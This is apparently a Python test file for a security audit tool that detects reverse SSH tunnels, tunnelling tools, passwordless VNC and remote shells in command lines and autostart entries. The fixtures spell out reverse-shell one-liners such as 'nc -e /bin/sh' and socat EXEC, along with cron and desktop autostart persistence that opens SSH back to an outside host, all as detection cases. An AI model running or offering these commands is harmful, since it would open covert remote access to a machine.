from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit.artifacts.autostart import Autostart
from audit.artifacts.openings import Opening, Way, openings
from tests.artifacts.devices import see, system
from tests.artifacts.test_process import row, seen


def said(line: str) -> list[tuple[Way, str]]:
    return [(each.way, each.to) for each in openings(shlex.split(line))]


@pytest.mark.parametrize(
    ("line", "to"),
    [
        ("ssh -R 2222:localhost:22 sam@203.0.113.7", "sam@203.0.113.7"),
        ("/usr/bin/ssh -fNTR 2222:localhost:22 -i ~/.ssh/k -p 443 example.org", "example.org"),
        ("ssh sam@example.org -N -R 5900:127.0.0.1:5900", "sam@example.org"),
        ("ssh -N -o 'RemoteForward 2222 localhost:22' example.org", "example.org"),
        ("ssh -oRemoteForward=2222:localhost:22 example.org", "example.org"),
        ("autossh -M 0 -f -N -R 2222:localhost:22 sam@example.org", "sam@example.org"),
        ("autossh -M 20000 -NR 2222:localhost:22 example.org sleep 9", "example.org"),
        ("screen -dmS upd ssh -R 1:localhost:22 example.org", "example.org"),
        ("sshpass -p hunter2 ssh -R 1:localhost:22 example.org", "example.org"),
    ],
)
def test_ssh_that_leads_back(line: str, to: str) -> None:
    assert said(line) == [(Way.SSH, to)]


@pytest.mark.parametrize(
    "line",
    [
        "ssh example.org",
        "ssh -L 8080:localhost:80 example.org",
        "ssh -D 1080 example.org",
        "ssh example.org chmod -R 700 x",
        "ssh -o ServerAliveInterval=30 example.org",
        "ssh",
        "ssh -",
        "grep -R x /home",
        "cloudflared access ssh --hostname x",
        "cloudflared update",
        "cloudflared tunnel list",
        "code-tunnel tunnel user show",
        "ngrok config check",
        "chisel server --reverse",
        "chisel client example.org 3000",
        "nc -zv example.org 22",
        "socat TCP-LISTEN:80,fork TCP:localhost:8080",
        "socat - UNIX-CONNECT:/run/x",
        "code .",
        "screen -S work",
        "screen",
        "sshd -R",
        "",
    ],
)
def test_ordinary_commands(line: str) -> None:
    assert said(line) == []


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("ngrok tcp 22", (Way.TUNNEL, "")),
        ("/usr/local/bin/ngrok start --all --config x", (Way.TUNNEL, "")),
        ("cloudflared --no-autoupdate tunnel run --token SECRET", (Way.TUNNEL, "")),
        ("frpc -c /etc/frp/frpc.toml", (Way.TUNNEL, "")),
        ("bore local 22 --to bore.example", (Way.TUNNEL, "bore.example")),
        ("bore local 22 --to=bore.example", (Way.TUNNEL, "bore.example")),
        ("chisel client --auth a:b example.org:9000 R:2222:localhost:22", (Way.TUNNEL, "example.org:9000")),
        ("code tunnel", (Way.TUNNEL, "")),
        ("/usr/share/code/bin/code-tunnel --verbose tunnel --accept-server-license-terms", (Way.TUNNEL, "")),
        ("cloudflared tunnel --url http://localhost:80", (Way.TUNNEL, "")),
        ("nc -e /bin/sh 203.0.113.7 4444", (Way.SHELL, "203.0.113.7")),
        ("ncat --ssl --sh-exec bash example.org 4444", (Way.SHELL, "example.org")),
        ("socat TCP:example.org:4444 EXEC:/bin/sh,pty", (Way.SHELL, "example.org:4444")),
    ],
)
def test_other_ways_in(line: str, found: tuple[Way, str]) -> None:
    assert [found[0]] == [way for way, _ in said(line)]
    assert [found] == said(line)


@pytest.mark.parametrize(
    ("line", "open_screen"),
    [
        ("x11vnc", True),
        ("x11vnc -display :0 -forever -shared -nopw", True),
        ("x11vnc -forever -bg -auth guess", True),
        ("x11vnc -forever -rfbauth /home/a/.vnc/passwd", False),
        ("x11vnc -forever --passwdfile x", False),
        ("x11vnc -localhost", False),
        ("x11vnc -listen 127.0.0.1", False),
        ("x11vnc -storepasswd", False),
        ("X0tigervnc -display :0 -SecurityTypes None", True),
        ("Xtigervnc :1 -SecurityTypes=VncAuth,None -localhost=0", True),
        ("Xtigervnc :1 -SecurityTypes None -localhost=1", False),
        ("Xtigervnc :1 -localhost=0 -SecurityTypes VncAuth -rfbauth x", False),
    ],
)
def test_a_screen_without_a_password(line: str, open_screen: bool) -> None:
    assert [way for way, _ in said(line)] == [Way.SCREEN] * open_screen


def test_what_starts_by_itself_and_what_runs(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "var/spool/cron/crontabs/alice": "@reboot autossh -M 0 -N -R 2222:localhost:22 sam@example.org >/dev/null 2>&1\n"
        "*/5 * * * * pgrep -f x || sshpass -p hunter2 ssh -NR 1:localhost:22 example.net\n",
        "etc/systemd/system/t.service": "[Service]\nExecStart=/bin/sh -c 'exec /opt/frpc -c /etc/f'\n",
        "etc/systemd/system/multi-user.target.wants/": "",
        "home/alice/.config/autostart/a.desktop": "[Desktop Entry]\nType=Application\nExec=/home/alice/bin/up.sh\n",
        "home/alice/bin/up.sh": "#!/bin/sh\nwhile true; do ssh -N -R 2:localhost:22 script.example; sleep 9; done\n",
    }
    root = system(tmp_path / "tree", files)
    (root / "etc/systemd/system/multi-user.target.wants/t.service").symlink_to("../t.service")
    found = see(root, Autostart)
    assert {(each.settings, opening.to or opening.program) for each in found for opening in each.opens} == {
        ("/var/spool/cron/crontabs/alice", "sam@example.org"),
        ("/var/spool/cron/crontabs/alice", "example.net"),
        ("/etc/systemd/system/t.service", "frpc"),
        ("~/.config/autostart/a.desktop", "script.example"),
    }
    assert "hunter2" not in repr(found)
    command = ["ssh", "-NR", "1:localhost:22", "-o", "ProxyCommand=x hunter2", "example.net"]
    (process,) = seen(tmp_path / "live", [row(name="ssh", exe="/usr/bin/ssh", command=command)])
    assert process.opens == (Opening(Way.SSH, "ssh", "example.net"),)
    assert "hunter2" not in json.dumps(repr(process))


@given(
    st.sampled_from(
        ["ssh", "autossh", "ngrok", "nc", "socat", "chisel", "bore", "x11vnc", "Xvnc", "screen", "tmux"]
    ),
    st.lists(
        st.text(max_size=20) | st.sampled_from(["-R", "-o", "ssh", "R:", "--to", "-", "--", "tunnel"]),
        max_size=8,
    ),
)
def test_any_command_is_understood(program: str, words: list[str]) -> None:
    for each in openings([program, *words]):
        assert len(each.to) <= 120


def test_many_wrappers_end() -> None:
    assert openings(["screen"] * 10_000) == ()
